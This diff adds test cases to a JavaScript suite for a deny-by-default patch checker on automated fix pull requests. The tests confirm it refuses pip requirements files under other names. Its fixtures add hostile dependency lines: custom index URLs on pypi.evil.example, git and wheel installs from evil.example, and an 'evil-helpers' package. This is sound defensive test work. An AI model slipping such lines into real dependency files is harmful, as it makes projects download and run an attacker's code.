@@ -141,3 +141,32 @@ describe('fix-PR file allow-list (deny by default)', () => {
     expect(checkPatch(diff).ok).toBe(false);
   });
 });
+
+describe('pip requirements files by another name (attacker pass, session 28)', () => {
+  it.each([
+    ['deps.txt', [' requests==2.31.0', '+--index-url https://pypi.evil.example/simple']],
+    ['deps.txt', [' flask', '+-e git+https://evil.example/helpers.git#egg=helpers']],
+    ['pinned.txt', [' flask', '+requests @ https://evil.example/requests-2.31.0-py3-none-any.whl']],
+    ['python/base.txt', [' requests==2.31.0', ' urllib3>=2,<3', '+evil-helpers==1.0']],
+    ['lib/deps.txt', ['+--extra-index-url=https://pypi.evil.example/simple']],
+    ['deps.txt', [' flask', '+git+https://evil.example/helpers.git']],
+    ['constraints.txt', [' flask', '+evil-helpers']],
+    ['requirements/ci.txt', [' flask', '+evil-helpers']],
+  ])('refuses %s, whose lines are pip requirements', (path, body) => {
+    // Act
+    const result = checkPatch(gitDiff(path, body));
+    // Assert
+    expect(!result.ok && result.reason).toMatch(/requirements|Python build/);
+  });
+
+  it.each([
+    // A spelling word list, a test's expected output, prose that names versions, a tool's help text.
+    ['docs/spelling_wordlist.txt', [' asyncio', ' boolean', '+dataclass']],
+    ['tests/fixtures/expected.txt', [' Result: ok', '+count == 3']],
+    ['CHANGES.txt', [' 2.1.0', '+- Requires Python >= 3.8 now (pip >= 23)']],
+    ['docs/usage.txt', [' Options:', '+  -f, --force    overwrite existing files', '+  -i FILE        read input from FILE', '+-c --coerce', '+  -E   \\']],
+    ['docs/links.txt', [' Mirrors:', '+    https://mirror.example/pub/tool-1.2.tar.gz']],
+  ])('allows %s, which is not', (path, body) => {
+    expect(checkPatch(gitDiff(path, body)).ok).toBe(true);
+  });
+});
